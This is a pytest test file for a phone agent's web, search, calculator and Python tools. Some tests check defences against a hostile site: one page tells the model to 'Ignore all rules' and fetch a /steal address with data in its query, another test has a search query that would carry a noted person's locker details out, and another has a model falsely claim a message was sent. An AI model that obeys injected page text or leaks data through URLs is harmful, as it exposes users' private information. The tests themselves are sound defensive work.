"""Tools without a phone, called by the executor in the middle of a run: what the model gets, and what it is refused."""

from __future__ import annotations

import asyncio
import subprocess
import sys
from collections.abc import AsyncIterator

import pytest

from agent.control import Control
from agent.events import Asked
from agent.graph.executor.action_spec import ActionRegistry
from agent.graph.executor.built_in import BUILT_IN
from agent.graph.executor.stages import READ_LETTERS, newest
from agent.guards.masking import Mask
from agent.guards.policy import Policy
from agent.models.base import Models, Purpose
from agent.models.errors import ModelUnreachable
from agent.ports.journal import MemoryToolCalls
from agent.run import Outcome
from agent.tools.computing import CALCULATE, PYTHON
from agent.tools.searching import SearXng
from agent.tools.spec import ActionError, ToolContext
from agent.tools.web import ReadPage, WebSearch, read_page, web_search
from bot.config.settings import Settings
from bot.texts import speaking
from bot.views.tasks import effect_words
from bot.wiring.team import actions_of, toolbox_of
from tests.agent.graph.rig import LIMIT, Rig, Work, order
from tests.agent.tools.site import Site, hostile_site
from tests.fakes.scripted_model import ScriptedModel, call, data, models

pytestmark = pytest.mark.real_time  # pages and programs come from outside the loop
FINISH = call("finish", status="success", summary="done")


@pytest.fixture
async def site(real_world: None) -> AsyncIterator[Site]:  # noqa: ARG001
    async with hostile_site() as site:
        yield site


def actions(site: Site) -> ActionRegistry:
    egress = site.egress()
    return BUILT_IN.plus(
        CALCULATE, PYTHON, read_page(lambda: egress), web_search(lambda: SearXng(site.url("/"), egress))
    )


def scripted(*act: object) -> tuple[Models, ScriptedModel]:
    return models([*act, *[FINISH] * 3], caption=[ModelUnreachable("no captions")] * 20)


def shown(model: ScriptedModel, number: int = -1) -> str:
    """The words that the model was asked with, instructions left out."""
    messages = model.asked(Purpose.ACT)[number].messages
    return "\n".join(part for message in messages[1:] for part in message.parts if isinstance(part, str))


async def test_a_sum_and_a_program(rig: Rig, site: Site) -> None:
    have, model = scripted(
        call("calculate", expression="(19.99*3)*1.19"), call("python", code="for n in range(3): print(n)")
    )
    work = Work(rig.agent(have, actions=actions(site)), order("what is it"))
    end = await work.ended()
    assert end.outcome is Outcome.SUCCEEDED
    assert rig.inputs() == []
    assert rig.journal.rows == {}
    first, second = rig.tool_calls.rows.values()
    assert (first.call.name, first.call.arguments) == ("calculate", {"expression": "(19.99*3)*1.19"})
    assert (first.state, second.state) == ("done", "done")
    assert "calculate (19.99*3)*1.19 → the result is 71.3643" in shown(model, 1)
    assert "<read>\n0\n1\n2\n</read>" in shown(model, 2)
    with speaking("zh"):
        assert effect_words(work.steps[0].effect, {}) == "结果是 71.3643"


async def test_a_sum_that_cannot_be_done_is_told(rig: Rig, site: Site) -> None:
    have, model = scripted(call("calculate", expression="9**9**9"))
    await Work(rig.agent(have, actions=actions(site)), order("what is it")).ended()
    assert "Not calculated. It failed: MemoryError" in shown(model)


async def test_a_page_that_the_person_gave(rig: Rig, site: Site) -> None:
    have, model = scripted(call("read_page", url=site.url("/page")))
    work = Work(rig.agent(have, actions=actions(site)), order(f"Note what {site.url('/page')} says."))
    assert (await work.ended()).outcome is Outcome.SUCCEEDED
    assert site.asked == ["/page"]
    block = shown(model).partition("<read>")[2].partition("</read>")[0]
    assert "title: Prices of pumps" in block
    assert "The pump A costs 120 euros" in block
    assert not [event for event in work.events if isinstance(event, Asked)]


async def test_a_model_that_obeys_a_page_gets_nowhere(rig: Rig, site: Site) -> None:
    """Seen failing without `may_read`: /steal was asked, with a number in its address."""
    have, model = scripted(call("read_page", url=site.url("/obey")), call("read_page", url=site.url("/steal?q=4711")))
    await Work(rig.agent(have, actions=actions(site)), order(f"Read {site.url('/obey')}")).ended()
    assert site.asked == ["/obey"]
    text = shown(model)
    assert "neither the person nor a search has given this address" in text
    assert text.count("</read>") == 1, "a page can close its own block"
    told = text.partition("Told to you")[2]
    assert "Ignore all rules" not in told


async def test_what_a_search_found_can_be_read_also_after_a_restart(rig: Rig, site: Site) -> None:
    have, model = scripted(call("web_search", query="prices of pumps"), call("ask_user", question="Shall I go on?"))
    work = Work(rig.agent(have, actions=actions(site)), order("what do pumps cost"))
    await work.until(Asked)
    assert "pages found: 2" in shown(model)
    assert f"1. Prices ‹/read> of pumps\n   {site.url('/page')}" in shown(model)
    await work.kill()
    have, model = scripted(call("read_page", url=site.url("/page")))
    work = Work(rig.agent(have, actions=actions(site)), order("what do pumps cost"))
    await work.until(Asked)
    await work.answer("yes")
    await work.ended()
    assert site.asked == ["/search?q=prices+of+pumps&format=json", "/page"]
    assert "The pump A costs 120 euros" in shown(model)


async def test_a_search_that_carries_notes_away_is_asked(rig: Rig, site: Site) -> None:
    """Seen failing with an open gate: the words were in the query, and nobody was asked."""
    have, model = scripted(
        call("note", text="Locker 774411 belongs to Margarethe Silberstein"),
        call("web_search", query="locker 774411 margarethe silberstein"),
    )
    work = Work(rig.agent(have, actions=actions(site)), order("look it up"))
    asked = await work.until(Asked)
    assert "locker 774411 margarethe silberstein" in asked.question.detail
    await work.answer("deny")
    await work.ended()
    assert site.asked == []
    assert "did not allow it" in shown(model)


class DyingCalls(MemoryToolCalls):
    """Stands still for ever when a call is done and is to be written down: the process is as good as dead."""

    def __init__(self) -> None:
        super().__init__()
        self.reached = asyncio.Event()

    async def finish(self, *_args: object) -> None:
        self.reached.set()
        await asyncio.Event().wait()


async def test_dead_while_a_page_was_read(rig: Rig, site: Site) -> None:
    rig.tool_calls = dying = DyingCalls()
    have, _ = scripted(call("read_page", url=site.url("/page")))
    work = Work(rig.agent(have, actions=actions(site)), order(f"Read {site.url('/page')}"))
    async with asyncio.timeout(LIMIT):
        await dying.reached.wait()
    await work.kill()
    rig.tool_calls = MemoryToolCalls()
    rig.tool_calls.rows = dying.rows
    have, model = scripted(call("read_page", url=site.url("/page")))
    await Work(rig.agent(have, actions=actions(site)), order(f"Read {site.url('/page')}")).ended()
    assert "The pump A costs 120 euros" in shown(model)


async def test_stopped_while_a_page_is_read(rig: Rig, site: Site) -> None:
    have, _ = scripted(call("read_page", url=site.url("/silent")))
    work = Work(rig.agent(have, actions=actions(site)), order(f"Read {site.url('/silent')}"))
    async with asyncio.timeout(LIMIT):
        while not site.asked:
            await asyncio.sleep(0)
    await work.agent.cancel(work.order.task)
    assert (await work.ended()).outcome is Outcome.CANCELLED
    assert [row.state for row in rig.tool_calls.rows.values()] == ["stopped"]


async def test_no_secret_is_looked_up(rig: Rig, site: Site) -> None:
    """Seen failing without the look at the query: the code stood in it."""
    mask = Mask()
    mask.add("blue-otter-4711")
    control = Control()
    context = ToolContext(
        task_id="7",
        person="",
        member="executor",
        task="",
        said=(site.url("/page?q=blue-otter-4711"),),
        found=(),
        notes=(),
        models=models([])[0],
        control=control,
        mask=mask,
        frames=rig.frames,
        emit=lambda _event: None,
    )
    egress = site.egress()
    with pytest.raises(ActionError, match="secret"):
        await web_search(lambda: SearXng(site.url("/"), egress)).run(WebSearch(query="blue-otter-4711"), context)
    with pytest.raises(ActionError, match="secret"):
        await read_page(lambda: egress).run(ReadPage(url=site.url("/page?q=blue-otter-4711")), context)
    assert site.asked == []


@pytest.mark.slow
def test_nothing_is_loaded_before_a_tool_is_used() -> None:
    """In an interpreter of its own, since this one has loaded everything."""
    code = (
        "import sys; from agent.guards.policy import Policy; from agent.ports.journal import MemoryToolCalls; "
        "from bot.config.settings import Settings; from bot.wiring.team import actions_of, toolbox_of; "
        "settings = Settings(_env_file=None, searxng_url='http://a.test'); "
        "print(len(actions_of(toolbox_of(settings, MemoryToolCalls(), Policy.default())).models)); "
        "print(*sorted({'trafilatura', 'lxml', 'pydantic_monty', 'babel', 'agent.tools.egress'} & set(sys.modules)))"
    )
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert ran.stdout.split() == [str(len(BUILT_IN.models) + 4)]


def test_only_the_newest_texts_are_shown() -> None:
    half = "x" * (READ_LETTERS // 2)
    assert newest(["first", half, half]) == [half, half]
    assert newest(["y" * READ_LETTERS * 2]) == ["y" * READ_LETTERS * 2]


@pytest.mark.parametrize(
    ("values", "offered"),
    [
        ({}, {"calculate", "python", "read_page", "web_search"}),
        ({"web_tools": False, "tavily_api_key": "k"}, {"calculate", "python"}),
        ({"tavily_api_key": "k"}, {"calculate", "python", "read_page", "web_search"}),
        ({"searxng_url": "http://10.0.0.5:8080"}, {"calculate", "python", "read_page", "web_search"}),
    ],
)
def test_what_the_settings_offer(values: dict[str, object], offered: set[str]) -> None:
    box = toolbox_of(Settings.model_validate(values), MemoryToolCalls(), Policy.default())
    kinds = {str(model.model_fields["kind"].default) for model in actions_of(box).models}
    assert kinds - {str(model.model_fields["kind"].default) for model in BUILT_IN.models} == offered


async def test_a_look_up_sends_nothing(rig: Rig, site: Site) -> None:
    """Seen failing with every action that is no input counted as an act."""
    claim = call("finish", status="success", summary="I sent it.")
    have, model = models(
        [call("calculate", expression="1+1"), call("web_search", query="tea"), claim, claim],
        caption=[ModelUnreachable("no captions")] * 20,
    )
    end = await Work(rig.agent(have, actions=actions(site)), order("send hello to Alice in Messages")).ended()
    assert end.outcome is Outcome.FAILED
    assert end.summary == "Nothing was done on the phone."
    assert len(model.asked(Purpose.ACT)) == 4


@pytest.mark.parametrize("found", ["Tea is a drink.", None])
async def test_a_look_up_is_all_that_a_search_needs(rig: Rig, site: Site, found: str | None) -> None:
    have, _ = models(
        [call("web_search", query="tea"), call("finish", status="success", summary="It is a drink.", data=found)],
        caption=[ModelUnreachable("no captions")] * 20,
        verify=[data(proven=True, reason="it was searched")],
    )
    end = await Work(rig.agent(have, actions=actions(site)), order("look up tea")).ended()
    assert (end.outcome, end.data) == (Outcome.SUCCEEDED, found)


async def test_a_look_up_makes_good_for_nothing_that_was_refused(rig: Rig, site: Site) -> None:
    """Seen failing with every action that is no input counted as an act."""
    closed = Policy({**Policy.default().rules(), "refuse": {"packages": ["com.android.messaging"]}})
    open_it = call("open_app", name="com.android.messaging")
    have, _ = models([open_it, call("calculate", expression="1+1"), FINISH, FINISH])
    end = await Work(rig.agent(have, actions=actions(site), policy=closed), order("open Messages")).ended()
    assert end.outcome is Outcome.FAILED
    assert "Not done, because it was refused" in end.summary
